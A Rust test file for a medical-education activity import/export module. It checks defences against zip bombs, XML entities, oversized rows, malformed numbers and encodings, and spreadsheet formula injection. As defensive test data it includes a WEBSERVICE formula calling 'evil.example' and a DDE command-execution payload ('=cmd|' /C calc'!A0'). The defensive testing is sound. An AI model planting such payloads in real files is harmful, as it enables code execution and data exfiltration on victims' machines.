//! Sheets of activities made to hurt, and values made to hurt whoever opens our own.

use std::io::Read;

use domain::activity::{Activity, MeasuredOutcome, Outline, OutlineKey, Rems, StateTopic, Support};
use formats::activities::{
    ActivityFormat, ActivityLimits, Code, Problem, SheetKind, SheetWriter, Widths, open, record, sniff,
};
use formats::{Encoding, FileFormat, Limits};
use rust_xlsxwriter::Formula;

use super::round_trip::written;
use super::{Outcome, reference, request, upload};
use crate::sample::{file, patch, repack, workbook, write_row};

const HEAD: [&str; 4] = ["Title", "Activity Format", "Start Date", "End Date"];
const GOOD: [&str; 4] = ["Knots", "RSS", "3/1/2026", "3/2/2026"];
const SHEET: &str = "xl/worksheets/sheet1.xml";

fn book(rows: u32) -> Vec<u8> {
    workbook(|sheet| {
        write_row(sheet, 0, &HEAD);
        (1..=rows).for_each(|row| write_row(sheet, row, &GOOD));
    })
}

fn lines(rows: usize) -> String {
    format!("{}\n{}", HEAD.join("\t"), format!("{}\n", GOOD.join("\t")).repeat(rows))
}

fn stopped(bytes: &[u8]) -> Code {
    match upload(bytes, SheetKind::Activities) {
        Err(problems) => problems[0].form().unwrap(),
        Ok(outcome) => outcome.fault.unwrap().form().unwrap(),
    }
}

fn codes(outcome: &Outcome) -> Vec<Vec<&'static str>> {
    let readings = outcome.readings();
    readings.iter().map(|reading| reading.problems.iter().map(Problem::code).collect()).collect()
}

#[test]
fn a_workbook_that_unpacks_to_much_is_refused_wherever_the_mass_is() {
    let spaces = vec![b' '; 40 << 20];
    for part in [SHEET, "xl/styles.xml", "xl/sharedStrings.xml", "docProps/app.xml"] {
        let bomb = repack(&book(1), |name, bytes| if name == part { [&spaces[..], &bytes].concat() } else { bytes });
        assert!(bomb.len() < 200_000, "{part}");
        assert_eq!(stopped(&bomb), Code::FileInflates, "{part}");
    }
    let doctype = patch(&book(1), SHEET, |text| format!("<!DOCTYPE x [<!ENTITY a \"b\">]>{text}"));
    assert_eq!(stopped(&doctype), Code::FileUnreadable);
}

#[test]
fn more_rows_than_a_sheet_has_end_the_file_and_those_before_count() {
    let text = file(lines(1_048_577).as_bytes());
    let format = sniff(text.path()).unwrap();
    let mut records = open(text.path(), format, SheetKind::Activities, &ActivityLimits::default()).unwrap();
    let read = records.by_ref().take_while(Result::is_ok).count();
    assert_eq!(read, 100_000);
    assert!(records.next().is_none(), "nothing is read behind the fault");
    let few = ActivityLimits { records: 3, ..ActivityLimits::default() };
    for bytes in [book(5), lines(5).into_bytes()] {
        let file = file(&bytes);
        let records = open(file.path(), sniff(file.path()).unwrap(), SheetKind::Activities, &few).unwrap();
        let told: Vec<_> = records.map(|one| one.map_err(|problem| problem.message())).collect();
        assert_eq!(told.len(), 4);
        assert_eq!(told[3], Err("More than 3 activities.".into()));
    }
}

#[test]
fn a_row_far_below_or_beyond_the_last_costs_no_memory() {
    let far = |row: &str| {
        patch(&book(2), SHEET, |text| {
            text.replace("r=\"3\"", &format!("r=\"{row}\"")).replace("3\" t=", &format!("{row}\" t="))
        })
    };
    for row in ["1048576", "1048577", "4294967295"] {
        match upload(&far(row), SheetKind::Activities) {
            Ok(outcome) => assert!(outcome.submitted.len() <= 2, "{row}"),
            Err(problems) => assert_eq!(problems[0].form(), Some(Code::FileUnreadable), "{row}"),
        }
    }
    let wide = format!("{}\n{}{}x\n{}\n", HEAD.join("\t"), GOOD.join("\t"), "\t".repeat(1 << 20), GOOD.join("\t"));
    assert_eq!(upload(wide.as_bytes(), SheetKind::Activities).unwrap().submitted.len(), 2);
    let groups: String = (0..5_000).map(|n| format!("\tSupporter {n}")).collect();
    let many = format!("{}{groups}\n{}\n", HEAD.join("\t"), GOOD.join("\t"));
    assert_eq!(upload(many.as_bytes(), SheetKind::Activities).unwrap().submitted.len(), 1);
}

#[test]
fn a_formula_a_nul_or_a_number_without_end_costs_only_its_row() {
    let huge = "9".repeat(40);
    let columns =
        ["Physicians", "AMA PRA Category 1 Credits", "Supporter 1 Amount", "MOC Board 1 Points", "Start Date"];
    for column in columns {
        let value = |text: &str| {
            let cells =
                [("Title", "Knots"), ("Activity Format", "RSS"), ("Start Date", "3/1/2026"), ("End Date", "3/2/2026")];
            let more = [("Supporter 1", "Acme"), ("MOC Board 1", "ABIM")];
            let mut cells: Vec<(&str, &str)> = cells.into_iter().chain(more).collect();
            cells.retain(|(name, _)| *name != column);
            let head: Vec<&str> = cells.iter().map(|(name, _)| *name).chain([column]).collect();
            let row: Vec<&str> = cells.iter().map(|(_, cell)| *cell).chain([text]).collect();
            let good = row.join("\t").replace(text, if column == "Start Date" { "3/1/2026" } else { "4" });
            let text = format!("{}\n{good}\n{}\n{good}\n", head.join("\t"), row.join("\t"));
            let outcome = upload(text.as_bytes(), SheetKind::Activities).unwrap();
            let codes = codes(&outcome);
            assert!(codes[0].is_empty() && codes[2].is_empty() && codes.len() == 3, "{column}: {codes:?}");
            codes[1].clone()
        };
        for text in ["1e400", huge.as_str(), "-1e400", "NaN", "inf", "0x10", "1e308"] {
            assert_eq!(value(text).len(), 1, "{column} {text}");
        }
        assert_eq!(value("=HYPERLINK(\"x\")"), ["cell_is_formula"]);
        assert_eq!(
            value("4\u{0}"),
            if column == "Start Date" {
                vec!["value_has_control_characters", "activity_date_unreadable"]
            } else {
                value("4\u{0}")
            }
        );
    }
    let formulas = workbook(|sheet| {
        write_row(sheet, 0, &HEAD);
        (1..=3).for_each(|row| write_row(sheet, row, &GOOD));
        sheet.write_formula(2, 0, Formula::new("=WEBSERVICE(\"https://evil.example\")").set_result("Knots")).unwrap();
    });
    let outcome = upload(&formulas, SheetKind::Activities).unwrap();
    assert_eq!(codes(&outcome), [vec![], vec!["cell_is_formula"], vec![]]);
    let numbers = workbook(|sheet| {
        write_row(sheet, 0, &[&HEAD[..], &["Physicians", "AMA PRA Category 1 Credits"]].concat());
        for (row, number) in [(1, 1e300), (2, 4.0), (3, 0.1), (4, -4.0), (5, 4.000_000_000_1)] {
            write_row(sheet, row, &GOOD);
            sheet.write_number(row, 4, number).unwrap();
            sheet.write_number(row, 5, number).unwrap();
        }
    });
    let told = codes(&upload(&numbers, SheetKind::Activities).unwrap());
    assert!(told[1].is_empty() && [0, 2, 3, 4].iter().all(|at| !told[*at].is_empty()), "{told:?}");
}

#[test]
fn numbers_without_end_in_documents_are_unreadable_values_and_no_more() {
    let places = [
        (r#""healthcareEducation":{"credits":{"numberOfCredits":N}}"#, "amount_unreadable"),
        (r#""healthcareEducation":{"startDateTime":N}"#, "activity_date_unreadable"),
        (
            r#""participationMetrics":{"participantsByCategory":{"category":"physician","numberOfParticipants":N}}"#,
            "number_unreadable",
        ),
        (r#""ActivityDescription":{"commercialSupportAmount":{"supportSource":"A","value":N}}"#, "dollars_unreadable"),
        (r#""XtensibleInfo":{"MOCRegistrations":{"boardName":"ABIM","mocPoints":N}}"#, "amount_unreadable"),
    ];
    for (place, code) in places {
        for number in ["1e400", "-1e400", &"9".repeat(40), &format!("0.{}", "1".repeat(300)), "1e-400"] {
            let inside = place.replace('N', number);
            let inside = if inside.contains("healthcareEducation") {
                format!(r#""healthcareMetadata":{{{inside}}}"#)
            } else {
                inside
            };
            let text = format!(r#"{{"MedicalEducationMetrics":[{{{inside}}}]}}"#);
            let outcome =
                request(text.as_bytes(), ActivityFormat::Json).unwrap_or_else(|problems| panic!("{problems:?}"));
            let told = codes(&outcome).remove(0);
            assert!(told.contains(&code), "{text}: {told:?}");
            assert!(outcome.readings()[0].problems.iter().all(|problem| problem.message().len() < 300));
        }
    }
}

#[test]
fn bytes_that_lie_about_their_encoding_are_read_right_or_told() {
    let named = |name: &str| format!("{}\n{name}\tRSS\t3/1/2026\t3/2/2026\n", HEAD.join("\t"));
    let plain = named("Café Muñoz");
    let title = |bytes: &[u8]| {
        let outcome = upload(bytes, SheetKind::Activities).unwrap_or_else(|problems| panic!("{problems:?}"));
        let reading = outcome.readings().remove(0);
        let told: Vec<_> = reading.problems.iter().map(Problem::code).collect();
        (reading.record().text(formats::activities::Field::Title).to_owned(), told)
    };
    let whole = ("Café Muñoz".to_owned(), vec![]);
    let marked = [b"\xEF\xBB\xBF", plain.as_bytes()].concat();
    let windows: Vec<u8> = plain.chars().map(|letter| letter as u8).collect();
    let wide = |mark: bool, little: bool| -> Vec<u8> {
        let text = if mark { format!("\u{FEFF}{plain}") } else { plain.clone() };
        text.encode_utf16().flat_map(|unit| if little { unit.to_le_bytes() } else { unit.to_be_bytes() }).collect()
    };
    for bytes in [plain.clone().into_bytes(), marked, windows, wide(true, true), wide(true, false)] {
        assert_eq!(title(&bytes), whole);
    }
    // a mark that says UTF-8 before bytes that are not
    let lie = [b"\xEF\xBB\xBF".as_slice(), named("Caf").as_bytes()].concat();
    let at = lie.windows(3).position(|three| three == b"Caf").unwrap() + 3;
    let lie = [&lie[..at], b"\xE9", &lie[at..]].concat();
    assert_eq!(title(&lie).1, ["value_has_control_characters"]);
    for bytes in [wide(false, true), wide(false, false), b"\xFF\xFE".to_vec(), b"\xEF\xBB\xBF".to_vec(), vec![0; 4_096]]
    {
        let told = upload(&bytes, SheetKind::Activities).err().map(|problems| problems[0].form());
        assert!(told.is_some_and(|code| code.is_some()), "{:?}", &bytes[..bytes.len().min(8)]);
    }
    let json = "\u{FEFF}{\"MedicalEducationMetrics\":[{}]}";
    assert_eq!(request(json.as_bytes(), ActivityFormat::Json).unwrap().submitted.len(), 1);
    for letter in ["\\u0000", "\\ud800", "\\udc00", "\\ufeff"] {
        let json = format!(r#"{{"MedicalEducationMetrics":[{{"XtensibleInfo":{{"ProviderID":"a{letter}b"}}}}]}}"#);
        let outcome = request(json.as_bytes(), ActivityFormat::Json).unwrap();
        assert!(codes(&outcome)[0].contains(&"value_has_control_characters"), "{letter}");
    }
}

#[test]
fn row_500_of_1000_is_wrong_in_every_format_and_the_others_go_through() {
    let book = workbook(|sheet| {
        write_row(sheet, 0, &HEAD);
        for row in 1..=1_000 {
            write_row(sheet, row, &GOOD);
        }
        sheet.write_string(500, 3, "soon").unwrap();
    });
    let one = |nth: usize| {
        let end = if nth == 500 { "soon" } else { "2026-03-02" };
        format!(
            r#"{{"Lom":{{"general":{{"title":"Knots"}}}},"healthcareMetadata":{{"healthcareEducation":{{"activityFormat":"RSS",
            "startDateTime":"2026-03-01","endDateTime":"{end}"}}}}}}"#
        )
    };
    let json = format!("{{\"MedicalEducationMetrics\":[{}]}}", (1..=1_000).map(one).collect::<Vec<_>>().join(","));
    for (name, bytes, place) in [
        ("xlsx", book, "row 501, End Date"),
        ("json", json.into_bytes(), "/MedicalEducationMetrics/499/healthcareMetadata/healthcareEducation/endDateTime"),
    ] {
        let outcome = upload(&bytes, SheetKind::Activities).unwrap();
        assert_eq!((outcome.fault.is_none(), outcome.submitted.len()), (true, 1_000), "{name}");
        let readings = outcome.readings();
        let refused: Vec<usize> = (0..1_000).filter(|at| readings[*at].is_refused()).collect();
        assert_eq!(refused, [499], "{name}");
        let problem = &readings[499].problems[0];
        assert_eq!((problem.code(), problem.given.as_str()), ("activity_date_unreadable", "soon"), "{name}");
        assert!(problem.place.to_string().ends_with(place), "{name}: {}", problem.place);
    }
}

/// Every free text of an activity is one that a spreadsheet would run.
fn poisoned(text: &str) -> Activity {
    let own = || text.to_owned();
    Activity {
        title: own(),
        internal_id: own(),
        city: own(),
        state: own(),
        country: own(),
        description: own(),
        url: own(),
        joint_providers: vec![own()],
        professions: vec![own()],
        specialties: vec![own()],
        outcomes: vec![MeasuredOutcome { outcome: own(), objective: true, subjective: false }],
        support: vec![Support { source: own(), dollars: None }],
        commendation_tags: vec![own()],
        rems: Some(Rems { kind: own(), identifier: own() }),
        state_topics: vec![StateTopic { domain: own(), topic: own() }],
        outlines: vec![Outline { source: own(), keys: vec![OutlineKey { keyword: own(), value: own() }] }],
        ..Activity::draft(
            super::id(),
            super::provider(),
            "T",
            domain::activity::Format::ManuscriptReview,
            jiff::civil::date(2026, 3, 1),
            jiff::civil::date(2026, 3, 2),
        )
    }
}

#[test]
fn no_cell_of_an_export_starts_a_formula() {
    for text in ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "=1", "'=1"] {
        let activity = poisoned(text);
        for delimiter in [b',', b';', b'\t'] {
            let format = FileFormat::Text { delimiter, encoding: Encoding::Utf8Bom };
            let bytes =
                std::fs::read(written(std::slice::from_ref(&activity), ActivityFormat::Sheet(format)).path()).unwrap();
            let mut reader = csv::ReaderBuilder::new().has_headers(false).delimiter(delimiter).from_reader(&bytes[3..]);
            let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
            assert_eq!(rows.len(), 2);
            let held = rows[1].iter().filter(|cell| cell.contains(text)).count();
            assert!(held >= 16, "{held}");
            for cell in rows.iter().flatten() {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell}");
            }
        }
        let bytes = std::fs::read(written(&[activity], ActivityFormat::Sheet(FileFormat::Xlsx)).path()).unwrap();
        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
        let mut strings = 0;
        for at in 0..archive.len() {
            let mut part = archive.by_index(at).unwrap();
            let mut xml = String::new();
            part.read_to_string(&mut xml).unwrap();
            assert!(!xml.contains("<f>") && !xml.contains("<f "), "a formula");
            for string in xml.split("<t").skip(1).filter_map(|rest| rest.split_once('>')) {
                strings += 1;
                assert!(!string.1.starts_with(['=', '+', '-', '@']), "{}", string.1.split('<').next().unwrap());
            }
        }
        assert!(strings > 30, "{strings}");
    }
}

#[test]
fn a_sheet_takes_as_many_columns_as_the_widest_activity_needs_and_the_reader_knows_them() {
    let wide = Activity {
        support: (0..400).map(|n| Support { source: format!("Source {n}"), dollars: Some(1) }).collect(),
        ..poisoned("x")
    };
    let one = record(&wide, &reference(), None);
    let mut widths = Widths::default();
    widths.fit(&one);
    let file = tempfile::NamedTempFile::new().unwrap();
    let mut writer = SheetWriter::create(file.path(), FileFormat::TSV, &widths).unwrap();
    writer.write(&one).unwrap();
    writer.finish().unwrap();
    let limits = ActivityLimits { sheet: Limits::default(), ..ActivityLimits::default() };
    let mut records = open(file.path(), sniff(file.path()).unwrap(), SheetKind::Activities, &limits).unwrap();
    assert_eq!(records.warnings(), []);
    let read = formats::activities::read(records.next().unwrap().unwrap().record, &reference());
    assert_eq!(read.activity(super::id(), super::provider()).unwrap().support, wide.support);
}
